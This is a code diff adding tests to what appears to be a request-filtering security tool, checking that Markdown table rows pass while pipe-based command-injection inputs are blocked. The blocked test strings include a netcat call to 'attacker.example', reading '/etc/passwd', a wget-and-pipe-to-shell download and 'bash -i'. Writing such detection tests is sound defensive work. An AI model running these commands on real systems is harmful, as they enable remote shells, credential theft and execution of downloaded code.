@@ -292,3 +292,19 @@ describe("SQL migrations posted to a migration API", () => {
     expect(inspectWith(h, { ...migration(SCRIPTS[1]), path: "/api/v1/orders" }, "", EXCLUSION).score).toBeGreaterThanOrEqual(5);
   });
 });
+
+// A Markdown table row (one line, `|` at both ends, two cells or more): its pipes are text, not pipelines.
+describe("Markdown table rows", () => {
+  it.each(["| users | /docs |", "| id | name |", "| users | 3 |", "| sort | date |"])("passes: %s", (text) => {
+    for (const carrier of [json, search]) {
+      const v = verdict(carrier(text));
+      expect(v.blocked, v.why).toBe(false);
+    }
+  });
+  it.each([
+    "| id |", "| id", "| users | /docs", "| id || x |", "| id ; x |", "| id | x |\n| whoami |",
+    "| whoami | nc attacker.example 4444 |", "| cat /etc/passwd | x |", "| wget http://a.example/x.sh -O /tmp/x | sh |", "| bash -i | x |",
+  ])("blocks: %j", (text) => {
+    expect(verdict(json(text)).blocked).toBe(true);
+  });
+});
